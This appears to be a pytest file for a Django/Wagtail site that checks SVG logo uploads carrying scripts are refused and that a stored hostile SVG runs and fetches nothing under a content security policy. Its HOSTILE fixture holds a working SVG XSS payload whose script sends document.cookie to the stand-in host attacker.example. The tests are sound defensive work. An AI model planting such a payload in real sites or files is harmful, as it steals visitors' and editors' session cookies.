"""An SVG logo can't run a script on the site's visitors or editors, nor fetch from elsewhere.

The attack: an SVG is a document; one that holds a <script>, an onload handler or a link to
another host runs or fetches when it is opened on its own (its address in the address bar, or
a link to it), with the site's origin and so its cookies. An editor's account, a careless
download or a crafted "logo" sent to the campaign is enough to plant one.

Two guards: the upload is refused (core/brand.py), and should a hostile file be stored anyway
(an older row, a bug in the cleaner), it is served with a policy that runs and loads nothing.
"""

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from wagtail.models import Site

from freethem.core.models import BrandSettings

HOSTILE = (
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="document.title=\'ran\'">'
    b"<script>document.title = 'ran'; fetch('https://attacker.example/?c=' + document.cookie)"
    b'</script><image href="https://attacker.example/pixel.png" width="1" height="1"/>'
    b'<rect width="10" height="10"/></svg>'
)


@pytest.mark.django_db
def test_an_svg_logo_with_a_script_is_refused_at_upload(client):
    from freethem.news.tests.factories import build_site

    build_site()
    default_site = Site.objects.get(is_default_site=True)
    editor = get_user_model().objects.create_superuser("editor", "e@example.org", "pw")
    client.force_login(editor)
    response = client.post(
        f"/admin/settings/core/brandsettings/{default_site.pk}/",
        {
            "accent_colour": "#a4161a",
            "header_colour": "#1b1b1f",
            "footer_colour": "#f3efe6",
            "logo_file": SimpleUploadedFile("logo.svg", HOSTILE, content_type="image/svg+xml"),
        },
    )
    assert response.status_code == 200  # the form comes back with the reason
    assert not BrandSettings.objects.filter(site=default_site).exclude(logo=b"").exists()


def test_a_hostile_svg_stored_anyway_runs_and_fetches_nothing_when_opened(site, browser):
    settings = BrandSettings.for_site(Site.objects.get(is_default_site=True))
    settings.logo, settings.logo_type = HOSTILE, "svg"  # past the cleaner, as a bug would
    settings.save()
    context = browser.new_context()
    page = context.new_page()
    elsewhere, blocked = [], []
    page.on("request", lambda request: elsewhere.append(request.url))
    # A request the policy stops is reported, failed as "csp", without leaving the browser.
    page.on(
        "requestfailed",
        lambda request: blocked.append(request.url) if request.failure == "csp" else None,
    )
    response = page.goto(f"{site.url}/brand/logo-{settings.version}.svg")
    assert response.status == 200
    page.wait_for_timeout(300)
    assert page.title() != "ran"
    assert page.evaluate("document.title") != "ran"
    assert [url for url in elsewhere if "attacker.example" in url] == blocked
    context.close()
